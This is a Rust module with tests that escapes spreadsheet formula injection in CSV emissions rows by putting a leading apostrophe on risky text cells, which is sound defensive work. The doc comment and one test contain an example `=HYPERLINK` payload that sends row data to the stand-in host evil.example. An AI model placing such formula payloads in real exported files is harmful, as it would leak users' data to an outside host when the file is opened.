//! Text cells a spreadsheet would run as a formula are written with a `'` in front.
//!
//! Excel, LibreOffice and Google Sheets read a cell starting with `=`, `+`, `-` or `@` (or a
//! tab or carriage return before one) as a formula, CSV quotes or not: a project name of
//! `=HYPERLINK("https://evil.example/?"&A2,"open")` becomes a link that sends the row away when
//! the file is opened. CodeCarbon writes such names raw. OWASP's advice, a leading `'`, makes
//! the spreadsheet show the text; it also changes what pandas reads back, so it is applied
//! only where a formula could start, and taking one `'` off a cell that starts with `'`s and a
//! formula character gives back every value (a value that already starts that way gets one
//! more `'`). The rows handed back to Python and exporters are never changed.

use std::borrow::Cow;

use super::row::{EmissionsRow, for_each_row_field};

/// The characters that start a formula in a spreadsheet cell.
pub const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// Whether `text` is written with a `'` in front: it starts with a formula character, or
/// with `'`s and then one (so that one `'` off always gives back the value).
pub fn needs_prefix(text: &str) -> bool {
    text.trim_start_matches('\'').starts_with(FORMULA_STARTS)
}

/// A column's value, as far as formulas go: text may start one, numbers never do.
trait Cell {
    /// Whether the cell is written with a `'` in front.
    fn needs_prefix(&self) -> bool {
        false
    }

    /// Puts the `'` in front.
    fn prefix(&mut self) {}
}

impl Cell for String {
    fn needs_prefix(&self) -> bool {
        needs_prefix(self)
    }

    fn prefix(&mut self) {
        if needs_prefix(self) {
            self.insert(0, '\'');
        }
    }
}

impl Cell for Option<String> {
    fn needs_prefix(&self) -> bool {
        self.as_deref().is_some_and(needs_prefix)
    }

    fn prefix(&mut self) {
        if let Some(text) = self {
            text.prefix();
        }
    }
}

impl Cell for f64 {}
impl Cell for u16 {}
impl Cell for u32 {}
impl Cell for u64 {}
impl Cell for Option<f64> {}
impl Cell for Option<u16> {}
impl Cell for Option<u32> {}
impl Cell for Option<u64> {}

macro_rules! spreadsheet_row {
    ($($field:ident),* $(,)?) => {
        impl EmissionsRow {
            /// The row as a CSV file gets it: every text cell that would start a formula with a
            /// `'` in front; the row itself when none would (no copy).
            pub fn for_spreadsheets(&self) -> Cow<'_, Self> {
                if !($(Cell::needs_prefix(&self.$field))||*) {
                    return Cow::Borrowed(self);
                }
                let mut row = self.clone();
                $(Cell::prefix(&mut row.$field);)*
                Cow::Owned(row)
            }
        }
    };
}

for_each_row_field!(spreadsheet_row);

#[cfg(test)]
mod tests {
    use super::*;

    /// What a reader does to get the value back: one `'` off a prefixed cell.
    fn read_back(cell: &str) -> &str {
        match cell.strip_prefix('\'') {
            Some(rest) if needs_prefix(rest) => rest,
            _ => cell,
        }
    }

    #[test]
    fn formulas_get_a_quote_and_every_value_reads_back() {
        for (value, written) in [
            (
                "=HYPERLINK(\"https://evil.example\",\"x\")",
                "'=HYPERLINK(\"https://evil.example\",\"x\")",
            ),
            ("+1", "'+1"),
            ("-baseline", "'-baseline"),
            ("@team/model", "'@team/model"),
            ("\t=1", "'\t=1"),
            ("'=already", "''=already"),
            ("resnet-50", "resnet-50"),
            ("it's", "it's"),
            ("'", "'"),
            ("", ""),
        ] {
            let mut cell = value.to_owned();
            cell.prefix();
            assert_eq!(cell, written, "{value:?}");
            assert_eq!(read_back(&cell), value, "{value:?}");
        }
    }

    #[test]
    fn only_text_columns_are_prefixed_and_a_clean_row_is_not_copied() {
        let clean = EmissionsRow {
            project_name: "p".to_owned(),
            emissions: -1.0,
            ..EmissionsRow::default()
        };
        assert!(matches!(clean.for_spreadsheets(), Cow::Borrowed(_)));
        let hostile = EmissionsRow {
            project_name: "=1+1".to_owned(),
            phase: Some("@SUM(A1)".to_owned()),
            emissions: -1.0,
            ..clean
        };
        let written = hostile.for_spreadsheets();
        assert_eq!(written.project_name, "'=1+1");
        assert_eq!(written.phase.as_deref(), Some("'@SUM(A1)"));
        assert!((written.emissions - -1.0).abs() < f64::EPSILON);
        assert_eq!(hostile.project_name, "=1+1");
    }
}
